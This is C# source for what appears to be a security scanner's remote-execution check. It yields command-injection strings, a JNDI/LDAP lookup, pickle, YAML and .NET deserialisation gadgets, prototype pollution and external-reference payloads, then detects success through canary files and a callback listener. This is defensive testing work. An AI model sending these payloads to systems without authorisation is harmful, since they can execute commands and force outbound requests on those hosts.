using Lighthouse.Security.Penetration.Fuzzing;
using Lighthouse.Security.Wire;

namespace Lighthouse.Security.Penetration.Classes;

/// <summary>Commands, deserialised objects and lookups: proven by a computed text, a file that was made, or a call to a port that nobody else knows.</summary>
internal sealed class RemoteExecution : IPenetrationClass
{
    public string Name => PenetrationClasses.Execution;

    public IEnumerable<Payload> Payloads(Canaries canaries)
    {
        var echo = $"echo lighthouse$(({canaries.Left}*{canaries.Right}))";
        var touch = $"touch {canaries.Touched("by-a-command")}";
        var call = $"http://{canaries.Listener.Authority}/call";
        yield return new(Name, "command after a quote", $"\";{touch};'{touch};") { IsCore = true };
        yield return new(Name, "address to call", call) { IsCore = true };
        foreach (var (name, text) in new[] { ("command substituted", $"$({touch})"), ("command in backticks", $"`{touch}`"), ("command after a pipe", $"|{touch}"), ("command after an and", $"&&{touch}"), ("command on a line of its own", $"a\n{touch}\n"), ("command whose output shows", $";{echo}"), ("command substituted, whose output shows", $"$({echo})") })
            yield return new(Name, name, text);
        foreach (var (name, json) in Objects(canaries, call))
            yield return new(Name, name, json) { Json = json, OnlyInBody = true };
        yield return new(Name, "lookup of a logger", $"${{jndi:ldap://{canaries.Listener.Authority}/lookup}}");
        yield return new(Name, "serialised Java object", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==");
        yield return new(Name, "serialised .NET object", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=");
        yield return new(Name, "pickled object", $"cos\nsystem\n(S'{touch}'\ntR.");
        yield return new(Name, "YAML object", $"!!python/object/apply:os.system [\"{touch}\"]");
    }

    public IEnumerable<Suspicion> Inspect(Exchange exchange, Canaries canaries)
    {
        if (exchange.Shows($"lighthouse{canaries.Product}"))
            yield return new($"a command in {exchange.Mutant.Where} is run", PenetrationFlaws.Command);
        if (canaries.TakeTouched().Count > 0)
            yield return new("a command is run: it made its file", PenetrationFlaws.Command);
        foreach (var _ in canaries.Listener.TakeCalls().Take(1))
            yield return new("an address that a request names is called", PenetrationFlaws.ServerRequest);
    }

    /// <summary>What was carried out only after its request had been answered.</summary>
    public async Task ProbeAsync(PenetrationRun run, CancellationToken cancellation)
    {
        await Task.Delay(TimeSpan.FromMilliseconds(200), run.Context.Time, cancellation);
        var late = new RawResponse(0, [], "");
        run.Log.Attempt(Name, Answer.Refused);
        if (run.Canaries.TakeTouched().Count > 0)
            run.Log.Find(Name, "a command is run after its request was answered: it made its file", PenetrationFlaws.Command, run.Health, late);
        if (run.Canaries.Listener.TakeCalls().Count > 0)
            run.Log.Find(Name, "an address that a request names is called after the request was answered", PenetrationFlaws.ServerRequest, run.Health, late);
    }

    private static IEnumerable<(string Name, string Json)> Objects(Canaries canaries, string call)
    {
        var file = canaries.Touched("by-an-object");
        yield return ("typed object of .NET", $$"""{"$type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"{{file}}"}""");
        yield return ("process start of .NET", $$$"""{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$values":["touch","{{{file}}}"]}}""");
        yield return ("typed object of Java", $$"""{"@type":"java.net.URL","val":"{{call}}"}""");
        yield return ("class of Java", $$"""["org.springframework.context.support.ClassPathXmlApplicationContext","{{call}}"]""");
        yield return ("polluted prototype", """{"__proto__":{"isAdmin":true,"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}""");
        yield return ("reference to elsewhere", $$"""{"$ref":"{{call}}"}""");
        yield return ("schema from elsewhere", $$"""{"$schema":"{{call}}","$id":"{{call}}","type":"object"}""");
    }
}
